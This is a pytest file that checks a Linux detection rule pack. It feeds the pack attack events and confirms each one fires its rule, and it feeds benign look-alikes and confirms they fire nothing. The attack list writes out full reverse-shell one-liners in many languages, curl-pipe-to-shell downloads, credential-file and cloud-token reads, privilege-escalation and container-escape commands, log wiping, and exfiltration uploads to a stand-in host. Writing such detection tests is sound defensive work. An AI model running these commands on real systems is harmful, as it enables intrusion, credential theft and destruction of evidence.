"""The default pack against the common forms of each technique it claims to cover, written
from public descriptions of the techniques (MITRE ATT&CK technique pages, the reverse
shell and GTFOBins collections, Falco's and Sigma's rule descriptions), not from our
simulator: each attack form must raise one of the rules named for it, and each benign
look-alike must raise nothing."""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from pipeline.rules.engine import DetectionEngine
from pipeline.rules.examples import example_event
from pipeline.rules.language import load_rules

C2 = "203.0.113.50"


def run(cmdline: str, process: str | None = None, **fields: Any) -> dict[str, Any]:
    """An exec event as a collector reports it: the new process and its command line."""
    name = process or shlex.split(cmdline)[0].rsplit("/", 1)[-1]
    obj = fields.pop("object", f"/usr/bin/{name}")
    return {
        "category": "process",
        "action": "exec",
        "object": obj,
        "actor": {"process": name, "cmdline": cmdline},
        **fields,
    }


def read(path: str, process: str = "cat", **fields: Any) -> dict[str, Any]:
    return {
        "category": "file",
        "action": "read",
        "object": path,
        "actor": {"process": process, "cmdline": f"{process} {path}"},
        **fields,
    }


def write(path: str, process: str = "bash", **fields: Any) -> dict[str, Any]:
    return {
        "category": "file",
        "action": "write",
        "object": path,
        "actor": {"process": process},
        **fields,
    }


def connect(target: str, process: str = "python3", **fields: Any) -> dict[str, Any]:
    return {
        "category": "network",
        "action": "connect",
        "object": target,
        "actor": {"process": process},
        **fields,
    }


def at(ts_s: float, event: dict[str, Any]) -> dict[str, Any]:
    return {**event, "ts": int(ts_s * 1000)}


ATTACKS: list[tuple[str, tuple[str, ...], list[dict[str, Any]]]] = [
    # Reverse shells (T1059.004 and the interpreters' T1059.00x)
    ("bash /dev/tcp", ("AP-EXE-001",), [run(f"bash -c 'bash -i >& /dev/tcp/{C2}/4242 0>&1'")]),
    (
        "sh fd 5 /dev/tcp",
        ("AP-EXE-001",),
        [run(f"sh -c 'sh -i 5<> /dev/tcp/{C2}/4242 0<&5 1>&5 2>&5'")],
    ),
    ("nc -e", ("AP-EXE-002",), [run(f"nc -e /bin/sh {C2} 4242")]),
    ("ncat --exec", ("AP-EXE-002",), [run(f"ncat {C2} 4242 --exec /bin/bash")]),
    ("busybox nc -e", ("AP-EXE-002", "AP-EXE-005"), [run(f"busybox nc {C2} 4242 -e sh")]),
    ("socat EXEC upper case", ("AP-EXE-002",), [run(f"socat TCP:{C2}:4242 EXEC:/bin/sh")]),
    (
        "socat exec pty",
        ("AP-EXE-002",),
        [run(f"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{C2}:4242")],
    ),
    (
        "mkfifo nc pipe",
        ("AP-EXE-006",),
        [run(f"sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {C2} 4242 >/tmp/f'")],
    ),
    (
        "mknod telnet pipe",
        ("AP-EXE-006",),
        [run(f"sh -c 'mknod /tmp/p p && telnet {C2} 4242 0</tmp/p | /bin/bash 1>/tmp/p'")],
    ),
    (
        "telnet pair",
        ("AP-EXE-006",),
        [run(f"sh -c 'telnet {C2} 4242 | /bin/sh | telnet {C2} 4243'")],
    ),
    (
        "openssl s_client",
        ("AP-EXE-006",),
        [
            run(
                f"sh -c 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet "
                f"-connect {C2}:4242 > /tmp/s; rm /tmp/s'"
            )
        ],
    ),
    (
        "python socket dup2",
        ("AP-EXE-005",),
        [
            run(
                f"python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
                f'socket.SOCK_STREAM);s.connect(("{C2}",4242));os.dup2(s.fileno(),0); '
                'os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])\''
            )
        ],
    ),
    (
        "python pty.spawn",
        ("AP-EXE-005",),
        [
            run(
                f'python -c \'import os,pty,socket;s=socket.socket();s.connect(("{C2}",4242));'
                '[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")\''
            )
        ],
    ),
    (
        "perl Socket",
        ("AP-EXE-005",),
        [
            run(
                f'perl -e \'use Socket;$i="{C2}";$p=4242;socket(S,PF_INET,SOCK_STREAM,'
                'getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'
                '">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\''
            )
        ],
    ),
    (
        "ruby TCPSocket",
        ("AP-EXE-005",),
        [
            run(
                f'ruby -rsocket -e\'f=TCPSocket.open("{C2}",4242).to_i;exec sprintf("/bin/sh '
                "-i <&%d >&%d 2>&%d\",f,f,f)'"
            )
        ],
    ),
    (
        "php fsockopen",
        ("AP-EXE-005",),
        [run(f'php -r \'$sock=fsockopen("{C2}",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'')],
    ),
    (
        "node net.Socket",
        ("AP-EXE-005",),
        [
            run(
                'node -e \'(function(){var net=require("net"),cp=require("child_process"),'
                'sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4242,'
                f'"{C2}",function(){{client.pipe(sh.stdin);sh.stdout.pipe(client);}});}})();\''
            )
        ],
    ),
    (
        "lua socket",
        ("AP-EXE-005",),
        [
            run(
                f"lua -e \"require('socket');require('os');t=socket.tcp();t:connect('{C2}',"
                "'4242');os.execute('/bin/sh -i <&3 >&3 2>&3');\""
            )
        ],
    ),
    (
        "awk /inet/tcp",
        ("AP-EXE-005",),
        [
            run(
                f'awk \'BEGIN {{s = "/inet/tcp/0/{C2}/4242"; while(42) {{ do{{ printf "shell>" '
                "|& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); "
                '} } while(c != "exit") close(s); }}\' /dev/null'
            )
        ],
    ),
    (
        "zsh ztcp",
        ("AP-EXE-006",),
        [
            run(
                f"zsh -c 'zmodload zsh/net/tcp && ztcp {C2} 4242 && zsh >&$REPLY 2>&$REPLY "
                "0>&$REPLY'"
            )
        ],
    ),
    ("nc.traditional -e", ("AP-EXE-002",), [run(f"nc.traditional {C2} 4242 -e /bin/bash")]),
    ("socat SYSTEM", ("AP-EXE-002",), [run(f"socat TCP4:{C2}:4242 SYSTEM:/bin/sh")]),
    (
        "perl IO::Socket system",
        ("AP-EXE-005",),
        [
            run(
                "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"
                f'"{C2}:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\''
            )
        ],
    ),
    # Download and execute (T1105, T1059)
    (
        "fetched to /tmp and run in one line",
        ("AP-EXE-007",),
        [run(f"sh -c 'curl -s http://{C2}/a -o /tmp/a && chmod +x /tmp/a && /tmp/a'")],
    ),
    ("curl piped to python", ("AP-EXE-007",), [run(f"sh -c 'curl -s http://{C2}/p | python3 -'")]),
    ("curl pipe to sh", ("AP-EXE-007",), [run(f"sh -c 'curl -fsSL http://{C2}/x.sh | sh'")]),
    (
        "wget -O- pipe to bash",
        ("AP-EXE-007",),
        [run(f"bash -c 'wget -qO- http://{C2}/x | bash -s'")],
    ),
    (
        "bash process substitution",
        ("AP-EXE-007",),
        [run(f"bash -c 'bash <(curl -s http://{C2}/i.sh)'")],
    ),
    (
        "python urlopen exec",
        ("AP-EXE-007",),
        [
            run(
                f"python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://{C2}/"
                "p.py').read())\""
            )
        ],
    ),
    (
        "download chmod run",
        ("AP-EXE-004",),
        [at(0, write("/tmp/.x", process="curl")), at(1, run("/tmp/.x", object="/tmp/.x"))],
    ),
    # Credential access (T1003.008, T1552.001, T1552.004, T1552.005, T1552.007)
    ("shadow read", ("AP-CRED-001",), [read("/etc/shadow")]),
    ("cat shadow as an exec", ("AP-CRED-001",), [run("cat /etc/shadow")]),
    ("ssh private key", ("AP-CRED-001",), [read("/home/dev/.ssh/id_ecdsa", process="base64")]),
    ("aws credentials", ("AP-CRED-001",), [read("/root/.aws/credentials", process="python3")]),
    (
        "kube service account token",
        ("AP-CRED-001",),
        [read("/var/run/secrets/kubernetes.io/serviceaccount/token", process="python3")],
    ),
    ("kubeconfig", ("AP-CRED-001",), [read("/home/dev/.kube/config", process="cat")]),
    ("docker registry auth", ("AP-CRED-001",), [read("/root/.docker/config.json")]),
    (
        "podman registry auth",
        ("AP-CRED-001",),
        [read("/run/containers/0/auth.json", process="python3")],
    ),
    ("another process's environment", ("AP-CRED-001",), [read("/proc/1/environ")]),
    (
        "environ through an exec",
        ("AP-CRED-001",),
        [run('sh -c \'cat /proc/*/environ | tr "\\0" "\\n"\'')],
    ),
    (
        "gcloud tokens",
        ("AP-CRED-001",),
        [read("/home/dev/.config/gcloud/access_tokens.db", process="sqlite3")],
    ),
    (
        "azure msal cache",
        ("AP-CRED-001",),
        [read("/home/dev/.azure/msal_token_cache.json", process="python3")],
    ),
    (
        "metadata credentials",
        ("AP-CRED-002",),
        [run("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")],
    ),
    ("ssh directory archived", ("AP-CRED-001",), [run("tar czf /tmp/k.tgz /home/dev/.ssh")]),
    (
        "process memory read",
        ("AP-CRED-001",),
        [run("dd if=/proc/1234/mem of=/tmp/m bs=1 skip=4096")],
    ),
    ("gcore", ("AP-CRED-001",), [run("gcore -o /tmp/core 1234")]),
    # Privilege escalation (T1548.001, T1548.003, T1547.006)
    ("setuid search", ("AP-DIS-002",), [run("find / -perm -u=s -type f")]),
    ("capabilities search", ("AP-DIS-002",), [run("getcap -r / 2>/dev/null")]),
    ("chmod u+s", ("AP-PRIV-001",), [run("chmod u+s /tmp/bash")]),
    ("chmod 4755", ("AP-PRIV-001",), [run("chmod 4755 /tmp/rootshell")]),
    ("setcap cap_setuid", ("AP-PRIV-004",), [run("setcap cap_setuid+ep /usr/bin/python3.11")]),
    (
        "sudo to a shell (GTFOBins find)",
        ("AP-PRIV-002",),
        [run("sudo find . -exec /bin/sh \\; -quit")],
    ),
    ("sudoers edited", ("AP-PRIV-006",), [write("/etc/sudoers.d/99-x", process="tee")]),
    ("kernel module insmod", ("AP-PRIV-005",), [run("insmod /tmp/rootkit.ko")]),
    ("kernel module modprobe", ("AP-PRIV-005",), [run("modprobe -a evil")]),
    (
        "kernel module syscall",
        ("AP-PRIV-005",),
        [
            {
                "category": "process",
                "action": "finit_module",
                "object": "/tmp/r.ko",
                "actor": {"process": "loader"},
            }
        ],
    ),
    # Container escape (T1611)
    ("docker socket", ("AP-CTR-001",), [connect("/var/run/docker.sock", process="curl")]),
    ("nsenter pid 1", ("AP-CTR-003",), [run("nsenter --target 1 --mount --uts --ipc --net --pid")]),
    ("mount host disk", ("AP-CTR-002",), [run("mount /dev/sda1 /mnt")]),
    ("cgroup release_agent", ("AP-CTR-005",), [write("/tmp/cgrp/release_agent", process="sh")]),
    ("core_pattern", ("AP-CTR-005",), [write("/proc/sys/kernel/core_pattern", process="sh")]),
    # Persistence (T1053.003, T1543.002, T1098.004, T1574.006)
    ("crontab", ("AP-PER-001",), [write("/var/spool/cron/crontabs/root", process="crontab")]),
    ("systemd unit", ("AP-PER-002",), [write("/etc/systemd/system/x.service")]),
    ("authorized_keys", ("AP-PER-004",), [write("/root/.ssh/authorized_keys", process="tee")]),
    ("ld.so.preload", ("AP-PER-005",), [write("/etc/ld.so.preload", process="tee")]),
    (
        "crontab appended by echo",
        ("AP-PER-001",),
        [run("sh -c 'echo \"* * * * * root /tmp/x\" >> /etc/crontab'")],
    ),
    (
        "systemd unit by tee",
        ("AP-PER-002",),
        [
            run(
                'sh -c \'printf "[Service]\\nExecStart=/tmp/x" '
                "| tee /etc/systemd/system/x.service'"
            )
        ],
    ),
    ("bashrc appended", ("AP-PER-003",), [run("sh -c 'echo /tmp/x >> ~/.bashrc'")]),
    # Defense evasion (T1070.003, T1562.001, T1070.002)
    ("selinux off", ("AP-EVA-001",), [run("setenforce 0")]),
    ("history to /dev/null", ("AP-EVA-002",), [run("ln -sf /dev/null /root/.bash_history")]),
    ("journal vacuumed", ("AP-EVA-003",), [run("journalctl --rotate --vacuum-time=1s")]),
    ("history cleared", ("AP-EVA-002",), [run("sh -c 'history -c; rm ~/.bash_history'")]),
    ("auditd stopped", ("AP-EVA-001",), [run("systemctl stop auditd")]),
    ("logs wiped", ("AP-EVA-003",), [run("sh -c 'rm -rf /var/log/auth.log /var/log/syslog'")]),
    # Discovery burst (T1082, T1033, T1016, T1057, T1087)
    (
        "discovery burst",
        ("AP-DIS-001",),
        [
            at(i, run(cmd))
            for i, cmd in enumerate(
                [
                    "whoami",
                    "id",
                    "uname -a",
                    "hostname",
                    "ip addr",
                    "ps aux",
                    "cat /etc/passwd",
                    "netstat -tunlp",
                    "sudo -l",
                    "cat /proc/version",
                ]
            )
        ],
    ),
    # Lateral movement (T1046, T1021.004)
    (
        "port scan",
        ("AP-LAT-001",),
        [
            at(i * 0.05, connect(f"10.0.3.7:{port}", process="python3"))
            for i, port in enumerate(
                [
                    21,
                    22,
                    23,
                    25,
                    80,
                    110,
                    139,
                    443,
                    445,
                    1433,
                    3306,
                    3389,
                    5432,
                    5900,
                    6379,
                    8080,
                    8443,
                    9200,
                    11211,
                    27017,
                ]
            )
        ],
    ),
    (
        "host sweep",
        ("AP-LAT-002",),
        [at(i * 0.1, connect(f"192.168.1.{i + 1}:22", process="python3")) for i in range(20)],
    ),
    ("ssh to an internal host", ("AP-LAT-003",), [connect("172.16.4.20:22", process="ssh")]),
    # Exfiltration (T1041, T1567)
    (
        "big upload",
        ("AP-EXF-002",),
        [
            {
                "category": "data_transfer",
                "action": "upload",
                "object": f"https://{C2}/u",
                "bytes": 2_000_000_000,
                "actor": {"process": "curl"},
            }
        ],
    ),
    ("curl -F upload", ("AP-EXF-003",), [run(f"curl -F data=@/tmp/src.tgz https://{C2}/u")]),
    # Mining (T1496)
    (
        "renamed miner",
        ("AP-MIN-002",),
        [
            run(
                "/tmp/.k -o pool.example:3333 -u 4Abc --donate-level 1",
                process=".k",
                object="/tmp/.k",
            )
        ],
    ),
    # AI agent: secrets read, then sent out (T1552.001 then T1041)
    (
        "agent reads .npmrc token then posts",
        ("AP-CRED-003",),
        [
            at(0, read("/home/agent/.npmrc", process="node")),
            at(3, connect(f"{C2}:443", process="node")),
        ],
    ),
    (
        "agent reads .env then posts",
        ("AP-CRED-003",),
        [
            at(0, read("/workspace/.env", process="python3")),
            at(20, connect(f"{C2}:443", process="python3")),
        ],
    ),
    (
        "agent dumps env then posts",
        ("AP-CRED-003",),
        [at(0, run("printenv")), at(5, connect(f"{C2}:443", process="node"))],
    ),
    (
        "agent reads aws keys then uploads",
        ("AP-CRED-003",),
        [
            at(0, read("/home/agent/.aws/credentials", process="node")),
            at(
                30,
                {
                    "category": "data_transfer",
                    "action": "upload",
                    "object": f"https://{C2}/c",
                    "bytes": 1200,
                    "actor": {"process": "node"},
                },
            ),
        ],
    ),
]

BENIGN: list[tuple[str, list[dict[str, Any]]]] = [
    ("nc port check", [run("nc -z -w 2 db.internal 5432")]),
    ("python hostname", [run("python3 -c 'import socket; print(socket.gethostname())'")]),
    (
        "openssl certificate check",
        [run("openssl s_client -connect github.com:443 -servername github.com")],
    ),
    ("a fifo for a build", [run("sh -c 'mkfifo /tmp/build.pipe && make -j2 > /tmp/build.pipe'")]),
    (
        "installer from a known host",
        [run("sh -c 'curl -sSf https://github.com/x/y/releases/download/v1/install.sh | sh'")],
    ),
    ("curl -o an installer", [run("curl -fsSLo /tmp/install.sh https://github.com/x/install.sh")]),
    ("public key read", [read("/home/dev/.ssh/id_ed25519.pub")]),
    ("known_hosts read", [read("/home/dev/.ssh/known_hosts", process="ssh")]),
    ("own environment read", [read("/proc/self/status", process="python3")]),
    ("chmod +x of a build output", [run("chmod +x ./target/release/app")]),
    ("modinfo", [run("lsmod")]),
    (
        "a few build commands",
        [at(i, run(c)) for i, c in enumerate(["uname -m", "id -u", "make", "gcc -v"])],
    ),
    (
        "connections to one service",
        [at(i, connect("10.0.3.7:5432", process="psql")) for i in range(30)],
    ),
    (
        "env, then a known registry",
        [at(0, run("env")), at(5, connect("pypi.org:443", process="pip"))],
    ),
    ("logs read", [read("/var/log/syslog", process="tail")]),
    (
        "rustup installer in one line",
        [
            run(
                "sh -c 'curl --proto =https -sSf -o /tmp/rustup-init.sh https://sh.rustup.rs "
                "&& sh /tmp/rustup-init.sh -y'"
            )
        ],
    ),
    (
        "npm reads its token for the registry",
        [
            at(0, read("/home/ci/.npmrc", process="node")),
            at(1, connect("registry.npmjs.org:443", process="node")),
        ],
    ),
    ("find by permissions of a build", [run("find . -perm -u+x -type f")]),
    (
        "upload to the artifact store",
        [run("curl -T release.tar.zst https://artifacts.internal/upload/")],
    ),
    ("journal read", [run("journalctl -u app --since today")]),
    ("cron listed", [run("crontab -l")]),
]


@pytest.fixture(scope="module")
def pack() -> Any:
    return load_rules([])


def fired(pack: Any, raw: list[dict[str, Any]]) -> set[str]:
    engine = DetectionEngine(pack, suppress_ms=0)
    events = [example_event(dict(e), i) for i, e in enumerate(raw)]
    return {alert.rule_id for alert in engine.process(events)}


@pytest.mark.parametrize(("form", "rules", "events"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_each_attack_form_raises_its_rule(
    pack: Any, form: str, rules: tuple[str, ...], events: list[dict[str, Any]]
) -> None:
    got = fired(pack, events)
    assert got & set(rules), f"{form}: expected one of {rules}, got {sorted(got)}"


@pytest.mark.parametrize(("form", "events"), BENIGN, ids=[b[0] for b in BENIGN])
def test_each_benign_look_alike_raises_nothing(
    pack: Any, form: str, events: list[dict[str, Any]]
) -> None:
    assert fired(pack, events) == set()
